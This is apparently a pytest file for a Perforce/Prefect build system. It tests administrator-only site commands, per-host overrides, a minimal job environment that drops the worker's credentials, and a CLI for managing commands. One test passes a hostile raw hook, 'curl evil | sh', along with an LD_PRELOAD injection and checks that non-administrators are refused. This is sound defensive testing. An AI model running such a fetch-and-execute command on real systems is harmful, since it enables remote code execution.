"""Site commands an administrator defines and jobs name: lookup, the doors, and what they run with."""
from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from prefect.client.schemas.objects import StateType

from deployments import jobs, templates
from deployments.commands import raw_command_problems
from flows.settings import ADMINS_VAR, admins
from flows import site_commands
from flows.p4.example import make_example
from flows.site_commands import SiteCommand, UnknownCommand, minimal_env, resolve
from flows.spec import JobSpec

from .helpers import logs, spec_for, wait_for_log
from tests.cli import p4integ as _p4integ


@pytest.fixture
def defined(local_worker: str) -> Iterator[None]:
    """The administrators' list starts and ends empty: it is one list for the whole server."""
    for c in site_commands.load():
        site_commands.remove(c.name, c.host)
    yield
    for c in site_commands.load():
        site_commands.remove(c.name, c.host)


@pytest.fixture
def admin(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    monkeypatch.setenv(ADMINS_VAR, "boss")
    admins.cache_clear()
    yield "boss"
    admins.cache_clear()


SPEC = dict(p4port="sandbox:/tmp/x", p4user="dev", client="ws", branch="main-to-rel")


def test_a_host_s_own_definition_replaces_the_every_host_one() -> None:
    defs = [SiteCommand(name="build", argv=["make", "all"]),
            SiteCommand(name="build", argv=["ninja", "-C", "{root}/out"], host="b", env={"CCACHE_DIR": "/cache"}),
            SiteCommand(name="lint", argv=["lint"])]
    on_a = resolve(JobSpec(**SPEC, host="a", build_command="build", pre_submit=["lint", ["./raw.sh"]]), defs)
    on_b = resolve(JobSpec(**SPEC, host="b", build_command="build"), defs)
    assert on_a.build_command.argv == ["make", "all"] and on_a.build_command.env == {}
    assert on_b.build_command.argv == ["ninja", "-C", "{root}/out"] and on_b.build_command.env == {"CCACHE_DIR": "/cache"}
    assert [(c.name, c.argv) for c in on_a.pre_submit] == [("lint", ["lint"]), (None, ["./raw.sh"])]
    with pytest.raises(UnknownCommand) as info:
        resolve(JobSpec(**SPEC, host="b", push_command="push", pre_submit=["lint", "nope"]), defs)
    assert set(info.value.problems) == {"push_command", "pre_submit[1]"}
    assert "no site command named 'nope' for host b (defined: build, lint)" in info.value.problems["pre_submit[1]"]


def test_a_name_is_not_a_command_line() -> None:
    with pytest.raises(ValueError, match="sync_command: 'p4 sync -q' is not the name of a site command"):
        JobSpec(**SPEC, sync_command="p4 sync -q")
    with pytest.raises(ValueError, match="argv: every argument"):
        SiteCommand(name="x", argv=["a", ""])
    with pytest.raises(ValueError, match="env: P4PASSWD is set by the job itself"):
        SiteCommand(name="x", argv=["a"], env={"P4PASSWD": "x"})


def test_site_commands_get_a_minimal_environment() -> None:
    worker = {"PATH": "/usr/bin:/bin", "HOME": "/home/w", "LANG": "C.UTF-8", "P4TRUST": "/home/w/.p4trust",
              "PREFECT_API_URL": "http://10.0.0.1:4200/api", "PREFECT_API_AUTH_STRING": "admin:s3cret",
              "AWS_SECRET_ACCESS_KEY": "k", "P4PASSWD": "worker-own", "LD_PRELOAD": "/tmp/x.so"}
    spec = JobSpec(**SPEC, env={"P4HOST": "build7"})
    env = minimal_env(spec, "TICKET123", {"CCACHE_DIR": "/cache"}, base=worker)
    assert env == {"PATH": "/usr/bin:/bin", "HOME": "/home/w", "LANG": "C.UTF-8", "P4TRUST": "/home/w/.p4trust",
                   "P4HOST": "build7", "CCACHE_DIR": "/cache", "P4PORT": "sandbox:/tmp/x", "P4USER": "dev",
                   "P4CLIENT": "ws", "P4PASSWD": "TICKET123"}


def test_only_administrators_give_a_program_or_an_environment(defined: None, admin: str, tmp_path: Path) -> None:
    site_commands.define(SiteCommand(name="check", argv=["true"]))
    named = JobSpec(**SPEC, pre_submit=["check"])
    raw = JobSpec(**SPEC, pre_submit=["check", ["sh", "-c", "curl evil | sh"]], env={"LD_PRELOAD": "/x.so"})
    assert raw_command_problems(named, "dev") == {}
    problems = raw_command_problems(raw, "dev")
    assert set(problems) == {"pre_submit", "env"}
    assert "pre_submit[1]: only administrators give a command line; pick a site command by name " \
           "(defined for host local: check)" in problems["pre_submit"]
    assert raw_command_problems(raw, admin) == {}
    # A template saved by a non-administrator with a program of their own is refused before it exists.
    ex = make_example(tmp_path / "ex", conflict=False)
    with pytest.raises(templates.TemplateError, match="pre_submit\\[0\\]: only administrators give a command line"):
        templates.create(ex.user, "raw-hook-tpl", spec_for(ex, pre_submit=[["sh", "-c", "id"]]))
    assert all(t.name != "raw-hook-tpl" for t in templates.list_templates(ex.user))


def test_a_named_command_runs_as_defined_with_only_the_jobs_environment(defined: None, tmp_path: Path) -> None:
    ex = make_example(tmp_path / "ex", conflict=False)
    site_commands.define(SiteCommand(name="show-env", argv=["sh", "-c", "echo 'every host'"]))
    site_commands.define(SiteCommand(name="show-env", host="local", env={"SITE_TOOL_MODE": "fast"},
                                     argv=["sh", "-c", "echo change={change}; env | sort | sed 's/^/env: /'"]))
    run_id = jobs.submit(spec_for(ex, pre_submit=["show-env"]))
    run = jobs.wait(run_id, timeout=240)
    assert run.state.type == StateType.COMPLETED, logs(run_id)
    lines = wait_for_log(run_id, "DONE:")
    assert any("(show-env)" in l and "echo change={change}" not in l for l in lines)  # placeholders filled
    env = {l.split("env: ", 1)[1].split("=", 1)[0] for l in lines if "env: " in l}
    assert {"SITE_TOOL_MODE", "P4PORT", "P4USER", "P4CLIENT", "PATH"} <= env
    assert not [k for k in env if k.startswith("PREFECT_")], env  # never the worker's API address or credential
    assert not any("every host" in l for l in lines)  # the host's own definition won



def test_an_administrator_defines_lists_and_removes_commands_from_the_cli(defined: None) -> None:
    out = _p4integ("commands", "add", "fast-sync", "--host", "b", "--env", "SYNC_MODE=quick", "--",
                   "/opt/site/psync", "--client", "{client}")
    assert out.returncode == 0, out.stderr
    assert 'defined site command fast-sync for host b: ["/opt/site/psync", "--client", "{client}"]' in out.stdout
    assert _p4integ("commands", "add", "fast-sync", "--", "p4", "sync").returncode == 0
    listed = _p4integ("commands", "list").stdout
    assert "fast-sync" in listed and "host b" in listed and "every host" in listed and "SYNC_MODE=..." in listed
    assert "quick" not in listed  # a definition's environment may hold a token: names only
    assert [c.argv for c in site_commands.for_host("b").values()] == [["/opt/site/psync", "--client", "{client}"]]
    bad = _p4integ("commands", "add", "two words", "--", "x")
    assert bad.returncode == 2 and "name: 'two words' is not a command name" in bad.stderr
    assert _p4integ("commands", "remove", "fast-sync", "--host", "b").returncode == 0
    assert [c.argv for c in site_commands.for_host("b").values()] == [["p4", "sync"]]
    gone = _p4integ("commands", "remove", "fast-sync", "--host", "b")
    assert gone.returncode == 2 and "no site command 'fast-sync' defined for host b" in gone.stderr
